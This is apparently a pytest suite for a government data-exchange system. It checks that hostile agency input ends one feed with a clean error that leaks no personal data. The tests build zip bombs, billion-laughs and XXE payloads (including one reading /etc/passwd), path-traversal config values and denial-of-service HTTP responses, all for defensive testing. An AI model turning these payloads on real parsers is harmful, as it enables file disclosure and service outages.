"""Prove it holds: hostile input from an agency ends its feed with a clear fundx error naming the feed.

Each case feeds one hostile input through the real connector (a tiny REST agency on 127.0.0.1, a drop
folder, a SQLite view) or through the dispatch writer, and checks three things: the error is a
PermanentError subclass (DataError, ConfigurationError, ...), so only this feed stops and the night
goes on (flows.exchange.nightly_exchange); its message and action name the feed; neither quotes the
record content that came with the hostile input. Where the input could not be refused without
reading it whole (a gigantic body, a zip bomb, an XML entity bomb), the test also shows it was not.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import pickle
import re
import sqlite3
import struct
import threading
import time
import zipfile
import zlib
from dataclasses import replace
from datetime import date, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from connectors import build_connector, connector_for, dropxlsx, filedrop, load_feed_file
from connectors.config import FeedConfig
from fundx.core.errors import (
    ConfigurationError,
    DataError,
    DeadlineExceeded,
    FundxError,
    IncompletePull,
    PermanentError,
    TransientError,
    content_free,
)
from fundx.core.settings import Settings, reload_settings
from fundx.core.timeutil import SHANGHAI, Window

#: record content sent along with each hostile input: it must never reach an error message
SECRET_ID = "330106195001011234"
SECRET_NAME = "张秘密"
WINDOW = Window.of("2026-01-01", "2027-01-01")


def assert_clear(error: BaseException, feed: str, *, kind: type[FundxError] = PermanentError) -> None:
    """A fundx error of ``kind`` naming ``feed``, without record content, surviving a pickle (Prefect)."""
    assert isinstance(error, kind), f"{type(error).__name__}: {error}"
    assert content_free(error) is error
    text = f"{error} | {error.action}"
    assert error.feed == feed and str(error).startswith(f"{feed}: ")
    assert SECRET_ID not in text and SECRET_NAME not in text
    again = pickle.loads(pickle.dumps(error))
    assert type(again) is type(error) and again.feed == feed and str(again) == str(error)


# --- a REST agency on loopback answering whatever the test sets ---------------------------------------


class HostileAgency:
    """Answers every GET with ``body`` (bytes, or a callable writing to the socket)."""

    def __init__(self) -> None:
        self.body: bytes | None = b"{}"
        self.stream = None  # a callable(handler) that writes the response itself
        self.sent = 0
        agency = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args) -> None:
                pass

            def do_GET(self) -> None:  # noqa: N802
                if agency.stream is not None:
                    agency.stream(self)
                    return
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(agency.body)))
                self.end_headers()
                self.wfile.write(agency.body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    def pour(self, handler: BaseHTTPRequestHandler, total: int, *, announce: bool) -> None:
        """Send ``total`` bytes of a JSON-looking body, counting what actually left, until the client hangs up."""
        handler.send_response(200)
        handler.send_header("Content-Type", "application/json")
        if announce:
            handler.send_header("Content-Length", str(total))
        handler.end_headers()
        chunk = (b'{"items": [' + (b'{"record_id": "MZ1", "id_number": "%s"},' % SECRET_ID.encode()) * 2000)[:65536]
        try:
            while self.sent < total:
                handler.wfile.write(chunk)
                self.sent += len(chunk)
        except (BrokenPipeError, ConnectionResetError, OSError):
            pass

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def agency():
    server = HostileAgency()
    yield server
    server.close()


FEED = "civil_affairs.deaths"


def rest_connector(base_url: str, paging: dict | None = None, **settings):
    config = FeedConfig.model_validate({
        "feed": FEED, "agency": "civil_affairs", "title": "t", "contract": FEED,
        "stage": "death_matching", "transport": "rest",
        "rest": {"base_url": base_url, "path": "/api/v1/cremations", "records": "items",
                 "paging": paging or {"style": "link_header", "size_param": "limit", "page_size": 100},
                 "window": {"start_param": "reported_from", "end_param": "reported_to"}},
    })
    quick = {"retry_attempts": 2, "retry_base_delay": 0.01, "retry_max_delay": 0.05}
    return build_connector(config, Settings(**{**quick, **settings}))


RECORD = b'{"record_id": "MZ1", "id_number": "%s", "name": "%s"}' % (SECRET_ID.encode(), SECRET_NAME.encode())


@pytest.mark.parametrize(
    "body",
    [
        b'{"items": [' + RECORD + b", " + RECORD[:-5] + b"}]}",  # a record broken off in the middle
        b'{"items": [' + RECORD + b"]} trailing " + RECORD,  # two documents
        b'{"items": [' + RECORD + b", NaN]}",
        b"\xff\xfe{" + RECORD,  # not UTF-8
        b"[" * 100_000 + b"]" * 100_000,  # deeply nested arrays
        b'{"items": ' + b"[" * 100_000 + RECORD + b"]" * 100_000 + b"}",  # deeply nested inside the records
        b'{"items": [' + b'{"a": ' * 50_000 + b"1" + b"}" * 50_000 + b"]}",  # deeply nested objects
    ],
    ids=["broken-record", "trailing-garbage", "nan", "not-utf8", "nested-arrays", "nested-records", "nested-objects"],
)
def test_rest_malformed_or_deeply_nested_json_is_a_data_error(agency, body):
    agency.body = body
    with pytest.raises(DataError) as info:
        rest_connector(agency.url).extract(WINDOW)
    assert_clear(info.value, FEED, kind=DataError)
    assert "/api/v1/cremations" in str(info.value)


def test_rest_gigantic_announced_body_is_refused_before_reading_it(agency):
    agency.stream = lambda handler: agency.pour(handler, 10 * 1024**3, announce=True)  # 10 GiB announced
    with pytest.raises(ConfigurationError, match="larger than 65536 bytes") as info:
        rest_connector(agency.url, max_response_bytes=65536).extract(WINDOW)
    assert_clear(info.value, FEED, kind=ConfigurationError)
    assert "FUNDX_MAX_RESPONSE_BYTES" in info.value.action
    assert agency.sent < 64 * 1024**2  # the client hung up long before; a socket buffer's worth went out


def test_rest_gigantic_unannounced_body_is_cut_at_the_cap(agency):
    agency.stream = lambda handler: agency.pour(handler, 10 * 1024**3, announce=False)  # no Content-Length
    with pytest.raises(ConfigurationError, match="larger than 65536 bytes") as info:
        rest_connector(agency.url, max_response_bytes=65536).extract(WINDOW)
    assert_clear(info.value, FEED, kind=ConfigurationError)
    assert agency.sent < 64 * 1024**2


def test_rest_next_link_that_is_no_url_is_a_data_error(agency):
    def page(handler):
        row = {"record_id": "MZ33010000000001", "id_number": SECRET_ID, "name": SECRET_NAME, "gender": "男",
               "death_date": "2026-10-01", "cremation_date": None, "funeral_home": None,
               "reported_at": "2026-10-01T08:00:00+08:00"}
        body = json.dumps({"items": [row]}).encode()
        handler.send_response(200)
        handler.send_header("Content-Length", str(len(body)))
        handler.send_header("Link", f'<http://[::1/{SECRET_ID}>; rel="next"')  # an unclosed IPv6 bracket
        handler.end_headers()
        handler.wfile.write(body)

    agency.stream = page
    with pytest.raises(DataError, match="link is not a valid URL") as info:
        rest_connector(agency.url).extract(WINDOW)
    assert_clear(info.value, FEED, kind=DataError)


ROW = {"record_id": "MZ33010000000001", "id_number": SECRET_ID, "name": SECRET_NAME, "gender": "男",
       "death_date": "2026-10-01", "cremation_date": None, "funeral_home": None,
       "reported_at": "2026-10-01T08:00:00+08:00"}


#: where a test's document holds the nested JSON it is sent with
NESTED = "@@nested@@"


def deep(depth: int, *, objects: bool = False) -> bytes:
    """JSON text of a record value inside ``depth`` arrays (or objects), written without recursion (the
    encoders recurse, and orjson stops at 254 levels)."""
    inner = json.dumps(SECRET_ID).encode()
    return b'{"a":' * depth + inner + b"}" * depth if objects else b"[" * depth + inner + b"]" * depth


def document(value: object, nested: bytes = b"") -> bytes:
    """``value`` as JSON, its string NESTED replaced by the JSON text ``nested``."""
    return json.dumps(value, ensure_ascii=False).encode().replace(b'"%s"' % NESTED.encode(), nested)


@pytest.mark.parametrize(
    ("record", "nested", "field", "kind"),
    [
        ({**ROW, "funeral_home": NESTED}, deep(1000), "funeral_home", "a JSON array"),  # deeper than Python recurses
        ({**ROW, "funeral_home": NESTED}, deep(1015, objects=True), "funeral_home", "a JSON object"),
        ({**ROW, "record_id": {"a": SECRET_ID}}, b"", "record_id", "a JSON object"),  # a dict as the key
        ({**ROW, "record_id": [SECRET_ID]}, b"", "record_id", "a JSON array"),
        ({**ROW, "record_id": NESTED}, deep(1000), "record_id", "a JSON array"),
        ({**ROW, "name": {"given": SECRET_NAME}}, b"", "name", "a JSON object"),
    ],
    ids=["array-1000-deep", "objects-1015-deep", "object-as-key", "array-as-key", "key-1000-deep", "shallow-object"],
)
def test_rest_record_with_nested_json_in_a_field_is_a_data_error_naming_record_and_field(agency, record, nested,
                                                                                          field, kind):
    agency.body = document({"items": [ROW | {"record_id": "MZ33010000000002"}, record]}, nested)
    with pytest.raises(DataError) as info:
        rest_connector(agency.url).extract(WINDOW)
    assert_clear(info.value, FEED, kind=DataError)
    assert f"record 2 holds {kind} in its field {field}" in str(info.value)


def test_rest_look_alikes_of_nested_json_are_read(agency):
    """Numbers, booleans and text that looks like JSON are values: the pull goes on as before."""
    rows = [ROW | {"record_id": "MZ33010000000002", "funeral_home": "[[[{}]]]"},
            ROW | {"record_id": "MZ33010000000003", "funeral_home": 5, "cremation_date": False}]
    agency.body = json.dumps({"items": rows}).encode()
    pull = rest_connector(agency.url).extract(WINDOW)
    assert pull.rows == 2 and list(pull.frame["funeral_home"]) == ["[[[{}]]]", 5]


def _served(handler, body: bytes, framing: str) -> None:
    handler.send_response(200)
    handler.send_header("Content-Type", "application/json")
    if framing == "length":
        handler.send_header("Content-Length", str(len(body)))
    elif framing == "chunked":
        handler.send_header("Transfer-Encoding", "chunked")
    handler.end_headers()
    if framing == "chunked":
        for start in range(0, len(body), 1000):
            piece = body[start:start + 1000]
            handler.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))
        handler.wfile.write(b"0\r\n\r\n")
    else:
        handler.wfile.write(body)
    handler.close_connection = True


@pytest.mark.parametrize("framing", ["length", "chunked", "close"])
def test_rest_json_deeper_than_the_decoder_takes_is_a_data_error_whatever_the_framing(agency, framing):
    """1,100 levels: orjson stops at 1,024. Before, a body without Content-Length was taken for one cut short
    (IncompletePull, tried again and again)."""
    body = document({"items": [ROW | {"funeral_home": NESTED}]}, deep(1100))
    agency.stream = lambda handler: _served(handler, body, framing)
    with pytest.raises(DataError, match="nested deeper than 1024 levels") as info:
        rest_connector(agency.url).extract(WINDOW)
    assert_clear(info.value, FEED, kind=DataError)


def test_rest_body_cut_short_without_content_length_is_still_incomplete(agency):
    """The look-alike: a body that ends in the middle of the document, the connection closed, is tried again."""
    body = json.dumps({"items": [ROW]}).encode()[:-20]
    agency.stream = lambda handler: _served(handler, body, "close")
    with pytest.raises(IncompletePull, match="cut short"):
        rest_connector(agency.url).extract(WINDOW)


@pytest.mark.parametrize(
    ("paging", "body", "named"),
    [
        ({"style": "cursor", "page_size": 100},
         document({"items": [ROW], "next_cursor": NESTED}, deep(1000)), "the response's 'next_cursor' is a JSON array"),
        ({"style": "cursor", "page_size": 100},
         document({"items": [ROW], "next_cursor": {"after": SECRET_ID}}), "the response's 'next_cursor' is a JSON object"),
        ({"style": "changed_since", "page_size": 1, "cursor_field": "reported_at"},
         document({"items": [ROW | {"reported_at": NESTED}], "has_more": True}, deep(1000)),
         "'s reported_at is a JSON array"),
    ],
    ids=["cursor-1000-deep", "cursor-object", "changed-since-1000-deep"],
)
def test_rest_paging_value_that_is_nested_json_is_a_data_error(agency, paging, body, named):
    agency.body = body
    with pytest.raises(DataError, match=re.escape(named)) as info:
        rest_connector(agency.url, paging).extract(WINDOW)
    assert_clear(info.value, FEED, kind=DataError)


# --- a slow agency: deadlines per request and per pull ----------------------------------------------------


def _trickle(handler, *, headers: bool, sent: list[int]) -> None:
    """Answer one byte at a time, each well inside any read timeout: in the status line and headers, or in
    the body after complete headers. Until the client hangs up."""
    body = json.dumps({"items": [ROW]}).encode()
    head = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body)
    data = head + body
    try:
        if not headers:
            handler.wfile.write(head)
            data = body
        for i in range(len(data)):
            handler.wfile.write(data[i:i + 1])
            sent[0] += 1
            time.sleep(0.1)
    except OSError:
        pass  # the client cut the connection at its deadline
    handler.close_connection = True


@pytest.mark.parametrize("headers", [False, True], ids=["body", "headers"])
def test_rest_trickling_agency_is_stopped_at_the_pull_deadline(agency, headers):
    sent = [0]
    agency.stream = lambda handler: _trickle(handler, headers=headers, sent=sent)
    started = time.monotonic()
    with pytest.raises(DeadlineExceeded) as info:
        rest_connector(agency.url, http_read_timeout=5, http_request_deadline=0.6, pull_deadline=2.0,
                       retry_attempts=20).extract(WINDOW)
    took = time.monotonic() - started
    assert_clear(info.value, FEED, kind=TransientError)
    assert "deadline of 2 s (FUNDX_PULL_DEADLINE)" in str(info.value) and "FUNDX_PULL_DEADLINE" in info.value.action
    assert took < 2.0 + 10  # bounded by the deadline (the margin only catches a hang, not a speed)
    assert 0 < sent[0] < 200  # it was trickling, and was cut off long before the end


def test_rest_request_past_its_own_deadline_is_tried_again_and_the_pull_completes(agency):
    """A page that trickles once is cut at FUNDX_HTTP_REQUEST_DEADLINE (transient) and asked for again."""
    calls = [0]

    def once(handler):
        calls[0] += 1
        if calls[0] == 1:
            _trickle(handler, headers=False, sent=[0])
        else:
            _served(handler, json.dumps({"items": [ROW]}).encode(), "length")

    agency.stream = once
    pull = rest_connector(agency.url, http_read_timeout=5, http_request_deadline=0.5, pull_deadline=60).extract(WINDOW)
    assert (pull.rows, pull.retries, calls[0]) == (1, 1, 2)


def test_rest_request_deadline_alone_gives_up_with_a_transient_error_naming_its_setting(agency):
    agency.stream = lambda handler: _trickle(handler, headers=False, sent=[0])
    with pytest.raises(TransientError) as info:
        rest_connector(agency.url, http_read_timeout=5, http_request_deadline=0.4, pull_deadline=60).extract(WINDOW)
    assert type(info.value) is TransientError  # the request's deadline: tried again (here: 2 tries), not the pull's
    assert "within 0.4 s (FUNDX_HTTP_REQUEST_DEADLINE)" in str(info.value) and "after 2 tries" in str(info.value)
    assert_clear(info.value, FEED, kind=TransientError)


# --- file drops -----------------------------------------------------------------------------------------

CSV_FEED = "religious_affairs.deaths"
XLSX_FEED = "justice.prisoners"
HEADERS = ["登记编号", "公民身份号码", "姓名", "性别", "死亡日期", "宗教活动场所", "登记日期"]
ROWS = [["ZJ0001", SECRET_ID, SECRET_NAME, "男", "2026-04-12", "灵隐寺", "2026-04-15"],
        ["ZJ0002", "33010519500101123X", "李四", "女", "2026-04-13", "", "2026-04-16"]]
ARRIVED = datetime(2026, 5, 1, 6, 0, tzinfo=SHANGHAI)


def csv_text(rows=ROWS) -> str:
    return "\r\n".join(",".join(r) for r in [HEADERS, *rows]) + "\r\n"


def drop(folder: Path, name: str, data: bytes, rows: int) -> Path:
    path = folder / name
    path.write_bytes(data)
    marker = folder / (name + ".ok")
    marker.write_text(f"rows={rows}\nsha256={hashlib.sha256(data).hexdigest()}\n")
    os.utime(marker, (ARRIVED.timestamp(), ARRIVED.timestamp()))
    return path


@pytest.fixture
def drops(tmp_path, monkeypatch):
    religious, justice = tmp_path / "religious", tmp_path / "justice"
    religious.mkdir()
    justice.mkdir()
    monkeypatch.setenv("FUNDX_RELIGIOUS_AFFAIRS_DROP", str(religious))
    monkeypatch.setenv("FUNDX_JUSTICE_DROP", str(justice))
    monkeypatch.setenv("FUNDX_RETRY_ATTEMPTS", "2")
    monkeypatch.setattr(filedrop, "RECHECK_SECONDS", 0.01)
    reload_settings()
    yield religious, justice
    monkeypatch.undo()
    reload_settings()


def pull(feed: str):
    return connector_for(feed, reload_settings()).extract(WINDOW)


@pytest.mark.parametrize(
    ("data", "offset_of"),
    [
        (csv_text().encode("gb18030").replace(SECRET_NAME.encode("gb18030"), b"\x80\xff\xfe"), b"\x80"),  # neither
        (csv_text().encode("utf-8").replace(SECRET_NAME.encode("utf-8"), b"\xe5\x28\xa1"), b"\x28"),  # bad UTF-8
        (csv_text().encode("gb18030") + b"\x81", b"\x81"),  # a GB18030 lead byte with no trail
        (csv_text().encode("gb18030").replace(SECRET_NAME.encode("gb18030"), b"\x81\x30\x81"), None),  # 4-byte cut
        (b"\xef\xbb\xbf" + csv_text().encode("utf-8").replace(SECRET_NAME.encode(), b"\xc3"), b"\xc3"),  # BOM, bad
    ],
    ids=["neither-utf8-nor-gb18030", "invalid-utf8", "gb18030-cut-at-end", "gb18030-four-byte-cut", "utf8-bom-then-bad"],
)
def test_csv_undecodable_bytes_are_a_data_error_naming_file_and_offset(drops, data, offset_of):
    drop(drops[0], "deaths_202604.csv", data, rows=2)
    with pytest.raises(DataError) as info:
        pull(CSV_FEED)
    assert_clear(info.value, CSV_FEED, kind=DataError)
    assert "deaths_202604.csv cannot be decoded" in str(info.value) and "offset" in str(info.value)


@pytest.mark.parametrize(
    "data",
    [
        csv_text().encode("gb18030").replace(SECRET_NAME.encode("gb18030"), b"\x00\x00"),
        csv_text().encode("utf-8").replace(SECRET_NAME.encode(), "张\x00秘".encode()),
        b"\x00" + csv_text().encode("utf-8"),
        b"\xff\xfe" + csv_text().replace(SECRET_NAME, "张\x00秘").encode("utf-16-le"),  # a NUL character in UTF-16
    ],
    ids=["nul-in-gb18030", "nul-in-utf8", "nul-first", "nul-in-utf16"],
)
def test_csv_nul_bytes_are_a_data_error(drops, data):
    drop(drops[0], "deaths_202604.csv", data, rows=2)
    with pytest.raises(DataError, match="deaths_202604.csv holds a NUL character") as info:
        pull(CSV_FEED)
    assert_clear(info.value, CSV_FEED, kind=DataError)


def test_after_a_hostile_file_is_replaced_every_row_arrives(drops):
    """Nothing is lost: the hostile file fails its feed; the agency's good file is then pulled whole."""
    drop(drops[0], "deaths_202604.csv", b"\x00" + csv_text().encode("gb18030"), rows=2)
    with pytest.raises(DataError):
        pull(CSV_FEED)
    drop(drops[0], "deaths_202604.csv", csv_text().encode("gb18030"), rows=2)
    assert list(pull(CSV_FEED).frame["record_id"]) == ["ZJ0001", "ZJ0002"]


# --- xlsx: zip bombs and XML entities -------------------------------------------------------------------

XLSX_HEADERS = ["罪犯编号", "身份证号码", "姓名", "入监日期", "刑期起日", "刑期止日", "羁押状态", "监狱名称", "备注"]
SHEET = "xl/worksheets/sheet1.xml"


def workbook_members() -> dict[str, bytes]:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "在押人员"
    sheet.append(XLSX_HEADERS)
    sheet.append(["ZF1", SECRET_ID, SECRET_NAME, "2021-04-12", "2021-04-01", "2030-01-01", "在押", None, None])
    buffer = io.BytesIO()
    book.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zip_of(members: dict[str, bytes | tuple[bytes, int, int]]) -> bytes:
    """A zip written by hand: each member plain bytes (deflated here) or (raw deflate, size, crc)."""
    out, central = io.BytesIO(), io.BytesIO()
    for name, member in members.items():
        if isinstance(member, bytes):
            packer = zlib.compressobj(9, zlib.DEFLATED, -15)
            raw, size, crc = packer.compress(member) + packer.flush(), len(member), zlib.crc32(member)
        else:
            raw, size, crc = member
        encoded = name.encode()
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(raw), size, len(encoded), 0))
        out.write(encoded + raw)
        central.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(raw), size,
                                  len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
    start = out.tell()
    out.write(central.getvalue())
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central.getvalue()), start, 0))
    return out.getvalue()


def sheet_bomb(unpacked: int) -> tuple[bytes, int, int]:
    """A sheet member of ``unpacked`` bytes (the workbook's sheet XML, then spaces) as raw deflate,
    built block by block so that a gigabyte bomb costs a few megabytes and no gigabyte in memory."""
    head = workbook_members()[SHEET]
    block = b" " * (1024 * 1024)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    repeated = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)  # no history: repeatable as is
    count = (unpacked - len(head)) // len(block)
    crc = zlib.crc32(head)
    for _ in range(count):
        crc = zlib.crc32(block, crc)
    return first + repeated * count + packer.flush(zlib.Z_FINISH), len(head) + count * len(block), crc


def drop_workbook(folder: Path, members: dict, *, rows: int = 1) -> None:
    drop(folder, "prisoners_20261031.xlsx", zip_of(members), rows=rows)


@pytest.fixture
def never_parsed(monkeypatch):
    """Fails the test if the workbook reader is ever reached."""
    import openpyxl

    def refuse(*args, **kwargs):
        raise AssertionError("the workbook was handed to openpyxl")

    monkeypatch.setattr(openpyxl, "load_workbook", refuse)


def test_xlsx_that_is_well_formed_is_read(drops):
    drop_workbook(drops[1], workbook_members())
    assert list(pull(XLSX_FEED).frame["prisoner_id"]) == ["ZF1"]


def test_xlsx_zip_bomb_is_refused_by_its_unpacked_size(drops, never_parsed):
    members = workbook_members() | {SHEET: sheet_bomb(dropxlsx.XLSX_MAX_UNPACKED_BYTES + 64 * 1024 * 1024)}
    drop_workbook(drops[1], members)
    assert (drops[1] / "prisoners_20261031.xlsx").stat().st_size < 8 * 1024 * 1024  # a gigabyte in a few MB
    with pytest.raises(DataError, match="would unpack to [0-9]+ bytes, more than") as info:
        pull(XLSX_FEED)
    assert_clear(info.value, XLSX_FEED, kind=DataError)


def test_xlsx_zip_bomb_is_refused_by_its_ratio(drops, never_parsed):
    members = workbook_members() | {SHEET: sheet_bomb(64 * 1024 * 1024)}
    drop_workbook(drops[1], members)
    with pytest.raises(DataError, match="zip bomb") as info:
        pull(XLSX_FEED)
    assert_clear(info.value, XLSX_FEED, kind=DataError)


def _with_dtd(xml: bytes, dtd: bytes, reference: bytes) -> bytes:
    body = xml.split(b"?>", 1)[1] if xml.startswith(b"<?xml") else xml
    cell = b'<row r="3"><c r="A3" t="inlineStr"><is><t>' + reference + b"</t></is></c></row>"
    return b'<?xml version="1.0"?>' + dtd + body.replace(b"</sheetData>", cell + b"</sheetData>", 1)


LAUGHS = b'<!DOCTYPE lolz [<!ENTITY lol0 "lol">' + b"".join(
    b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10)) + b"]>"


@pytest.mark.parametrize(
    ("member", "dtd", "reference"),
    [
        (SHEET, LAUGHS, b"&lol9;"),
        (SHEET, b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', b"&xxe;"),
        (SHEET, b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]>', b""),
        ("xl/sharedStrings.xml", LAUGHS, b""),
        ("xl/workbook.xml", b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', b""),
    ],
    ids=["billion-laughs", "external-entity", "external-parameter-entity", "laughs-in-shared-strings", "xxe-in-workbook"],
)
def test_xlsx_with_xml_entities_is_refused_before_parsing(drops, never_parsed, member, dtd, reference):
    members = workbook_members()
    if member == SHEET:
        members[SHEET] = _with_dtd(members[SHEET], dtd, reference)
    elif member in members:
        members[member] = b'<?xml version="1.0"?>' + dtd + members[member].split(b"?>", 1)[-1]
    else:
        members[member] = b'<?xml version="1.0"?>' + dtd + b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    drop_workbook(drops[1], members)
    with pytest.raises(DataError, match="declares a DTD") as info:
        pull(XLSX_FEED)
    assert_clear(info.value, XLSX_FEED, kind=DataError)


@pytest.mark.parametrize(
    "mangle",
    [
        lambda members: members | {SHEET: members[SHEET].replace(b"</sheetData>", b"<row><c>")},  # broken XML
        lambda members: {k: v for k, v in members.items() if k != SHEET},  # the sheet left out
        lambda members: zip_of(members)[:-40],  # the zip's end cut off
    ],
    ids=["broken-sheet-xml", "missing-sheet", "truncated-zip"],
)
def test_xlsx_broken_workbook_is_a_data_error(drops, mangle):
    result = mangle(workbook_members())
    data = result if isinstance(result, bytes) else zip_of(result)
    drop(drops[1], "prisoners_20261031.xlsx", data, rows=1)
    with pytest.raises(PermanentError, match="prisoners_20261031.xlsx") as info:  # a sheet left out: SourceSchemaError
        pull(XLSX_FEED)
    assert_clear(info.value, XLSX_FEED)


# --- file-drop names: never outside the drop folder ---------------------------------------------------


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("pattern", "../*.csv"),
        ("pattern", "../../etc/*"),
        ("pattern", "/etc/*.csv"),
        ("pattern", "sub/../../*.csv"),
        ("pattern", "..\\\\*.csv"),
        ("pattern", "C:\\\\drop\\\\*.csv"),
        ("done_suffix", "/../../../etc/passwd"),
        ("done_suffix", ".ok/../../x"),
    ],
)
def test_file_drop_config_naming_a_path_outside_the_folder_is_refused(tmp_path, key, value):
    text = (Path(__file__).parents[2] / "connectors" / "feeds" / f"{CSV_FEED}.yaml").read_text(encoding="utf-8")
    lines = [f'  {key}: "{value}"' if line.strip().startswith(f"{key}:") else line for line in text.splitlines()]
    path = tmp_path / f"{CSV_FEED}.yaml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    with pytest.raises(ConfigurationError, match=f"filedrop.{key}") as info:
        load_feed_file(path)
    assert info.value.feed == CSV_FEED


def test_file_drop_listing_never_opens_outside_the_folder(drops, tmp_path, monkeypatch):
    """Even with the config's guard bypassed, a pattern climbing out or a symlinked file is skipped."""
    outside = tmp_path / "outside"
    outside.mkdir()
    drop(outside, "deaths_202604.csv", csv_text().encode("gb18030"), rows=2)
    (drops[0] / "deaths_202605.csv").symlink_to(outside / "deaths_202604.csv")
    (drops[0] / "deaths_202605.csv.ok").symlink_to(outside / "deaths_202604.csv.ok")
    (drops[0] / "deaths_202606.csv").symlink_to(outside / "deaths_202604.csv")  # only the data file linked
    drop(drops[0], "deaths_202606.csv.ok", b"", rows=2)
    connector = connector_for(CSV_FEED, reload_settings())
    opened: list[Path] = []
    real = Path.read_bytes
    monkeypatch.setattr(Path, "read_bytes", lambda self: opened.append(self) or real(self))
    connector.config = connector.config.model_copy(update={"pattern": "../outside/*.csv"})
    assert connector.extract(WINDOW).rows == 0
    connector.config = connector.config.model_copy(update={"pattern": "deaths_*.csv"})
    assert connector.extract(WINDOW).rows == 0
    assert opened == []


# --- a database view returning the wrong type --------------------------------------------------------

DB_FEED = "medical_insurance.bills"


@pytest.fixture
def bills_db(tmp_path, monkeypatch):
    path = tmp_path / "medical.db"
    monkeypatch.setenv("FUNDX_MEDICAL_INSURANCE_DB_URL", f"sqlite:///{path}")
    monkeypatch.setenv("FUNDX_RETRY_ATTEMPTS", "1")
    reload_settings()

    def make(total, fund=100.0):
        with sqlite3.connect(path) as conn:
            conn.execute("DROP VIEW IF EXISTS v_settled_bills")
            conn.execute("DROP TABLE IF EXISTS bills")
            conn.execute("CREATE TABLE bills (bill_id TEXT, id_number TEXT, patient_name TEXT, hospital_code TEXT, "
                         "diagnosis_code TEXT, admitted_on TEXT, discharged_on TEXT, total_amount, fund_amount, "
                         "settled_at TEXT)")
            conn.executemany("INSERT INTO bills VALUES (?, ?, ?, 'H3301', 'J18.9', '2026-04-01', NULL, ?, ?, ?)", [
                ("B0001", "33010519500101123X", "李四", 200.0, 100.0, "2026-04-02 09:00:00"),
                ("B0002", SECRET_ID, SECRET_NAME, total, fund, "2026-04-02 09:00:01"),
            ])
            conn.execute("CREATE VIEW v_settled_bills AS SELECT * FROM bills")

    make.path = path  # type: ignore[attr-defined]
    yield make
    monkeypatch.undo()
    reload_settings()


@pytest.mark.parametrize(
    "total",
    [SECRET_NAME, f"{SECRET_ID}元", "1,200.00", b"\x00\x01", "NaN", "2026-04-02"],
    ids=["chinese-text", "id-in-text", "thousands-separator", "blob", "nan-text", "date-text"],
)
def test_database_view_with_text_in_a_number_column_is_a_data_error_naming_the_column(bills_db, total):
    bills_db(total)
    with pytest.raises(DataError, match="column total_amount of v_settled_bills holds 1 value") as info:
        pull(DB_FEED)
    assert_clear(info.value, DB_FEED, kind=DataError)
    assert "row 2" in str(info.value) and "number" in str(info.value)


@pytest.mark.parametrize("total", [150.5, 150, "150.50", None], ids=["real", "integer", "numeric-text", "null"])
def test_database_view_with_numbers_in_a_number_column_is_read(bills_db, total):
    bills_db(total)
    assert pull(DB_FEED).rows == 2


#: a view that takes minutes to answer: an uncorrelated subquery counting to two billion, evaluated once
SLOW_VIEW = ("CREATE VIEW v_settled_bills AS SELECT * FROM bills WHERE (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL "
             "SELECT x + 1 FROM c WHERE x < 2000000000) SELECT count(*) FROM c) > 0")


@pytest.mark.parametrize("streamed", [False, True], ids=["whole", "streamed"])
def test_database_statement_running_past_the_pull_deadline_is_cancelled(bills_db, monkeypatch, tmp_path, streamed):
    bills_db(150.0)
    with sqlite3.connect(bills_db.path) as conn:
        conn.execute("DROP VIEW v_settled_bills")
        conn.execute(SLOW_VIEW)
    monkeypatch.setenv("FUNDX_PULL_DEADLINE", "1")
    monkeypatch.setenv("FUNDX_DB_TIMEOUT", "60")
    connector = connector_for(DB_FEED, reload_settings())
    started = time.monotonic()
    with pytest.raises(DeadlineExceeded) as info:
        if streamed:  # the way the nightly run reads this feed (stream: true): chunks, in a reader thread
            from fundx.exchange.spool import Spool
            from fundx.exchange.stream import extract

            extract(connector, WINDOW, Spool.create(tmp_path, DB_FEED), chunk_rows=1)
        else:
            connector.extract(WINDOW)
    assert time.monotonic() - started < 1 + 10  # cancelled at the deadline, not minutes later (catches a hang)
    assert_clear(info.value, DB_FEED, kind=TransientError)
    assert "query: the pull reached its deadline of 1 s (FUNDX_PULL_DEADLINE)" in str(info.value)


# --- CSV written by the exchange: formula injection ----------------------------------------------------


@pytest.fixture
def ledger(tmp_path, monkeypatch):
    monkeypatch.setenv("FUNDX_HOME", str(tmp_path / "var"))
    monkeypatch.delenv("FUNDX_LEDGER_URL", raising=False)
    reload_settings()
    from fundx.ledger import Ledger

    led = Ledger.from_settings()
    yield led
    led.dispose()
    monkeypatch.undo()
    reload_settings()


